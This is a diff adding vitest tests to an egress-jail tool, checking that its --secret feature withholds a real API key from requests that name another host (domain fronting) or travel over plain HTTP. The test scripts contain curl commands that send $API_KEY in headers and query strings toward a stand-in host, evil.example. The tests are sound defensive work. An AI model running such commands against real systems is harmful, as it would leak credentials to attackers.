@@ -9,7 +9,7 @@
  */
 import * as fs from 'node:fs';
 import * as https from 'node:https';
-import type * as net from 'node:net';
+import * as net from 'node:net';
 import * as path from 'node:path';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { makeCa, type RunCa } from '../../src/egress/ca.js';
@@ -135,6 +135,54 @@ strictJail.describe('--secret', () => {
       expect(listed.connections).toBe(0);
     } finally {
       await Promise.all([listed.close(), other.close()]);
+    }
+  });
+
+  it('a request that names another host (Host header, absolute-form target: domain fronting on a shared CDN) gets no real value', async () => {
+    const s = await upstream(realCa);
+    try {
+      // A CDN routes by the Host header (or an absolute-form target), not
+      // by the TLS name: these would carry the key to evil.example's origin.
+      const script =
+        `curl -sS --max-time 10 -H "Host: evil.example" -H "Authorization: Bearer $API_KEY" "https://localhost:${s.port}/fronted?key=$API_KEY"; echo; ` +
+        `curl -sS --max-time 10 --request-target "https://evil.example/abs?key=$API_KEY" -H "Authorization: Bearer $API_KEY" "https://localhost:${s.port}/"; echo; ` +
+        `curl -sS --max-time 10 -H "Authorization: Bearer $API_KEY" "https://localhost:${s.port}/fine"`;
+      const r = await run(['--secret', `API_KEY@localhost:${s.port}`, '--', 'sh', '-c', script]);
+      expect(printedAll(r)).not.toContain(REAL);
+      // Whatever reached the upstream named the listed host, and only that carries the value.
+      for (const g of s.got) {
+        const h = JSON.parse(g.headers) as Record<string, string>;
+        if (JSON.stringify(g).includes(REAL)) expect([h.host, g.url.startsWith('/')]).toEqual([`localhost:${s.port}`, true]);
+      }
+      expect(s.got.filter((g) => JSON.stringify(g).includes('evil.example'))).toEqual([]);
+      expect(s.got.map((g) => g.url)).toEqual([`/fine`]);
+      expect(r.stdout.match(/is not sent on it/g)).toHaveLength(2);
+      expect(r.stdout).toContain('upstream says hi');
+    } finally {
+      await s.close();
+    }
+  });
+
+  it('plain HTTP to a listed HTTPS host carries only the placeholder: the value never crosses the wire in clear text', async () => {
+    // What arrives at the host's port, as anyone on the path would read it.
+    const seen: string[] = [];
+    const wire = net.createServer((c) => {
+      c.on('data', (d) => seen.push(String(d)));
+      c.on('error', () => {});
+      setTimeout(() => c.end('HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n'), 100);
+    });
+    await new Promise<void>((r) => wire.listen(0, '127.0.0.1', r));
+    const port = (wire.address() as net.AddressInfo).port;
+    try {
+      const r = await run([
+        '--secret', `API_KEY@localhost:${port}`, '--',
+        'sh', '-c', `curl -sS --max-time 10 --proxy "$HTTP_PROXY" -H "Authorization: Bearer $API_KEY" "http://localhost:${port}/clear?key=$API_KEY"; echo "env:$API_KEY"`,
+      ]);
+      const placeholder = /env:(\S+)/.exec(r.stdout)?.[1] ?? '';
+      expect(seen.join('')).not.toContain(REAL);
+      expect(seen.join('')).toContain(`Bearer ${placeholder}`);
+    } finally {
+      await new Promise<void>((r) => wire.close(() => r()));
     }
   });
 
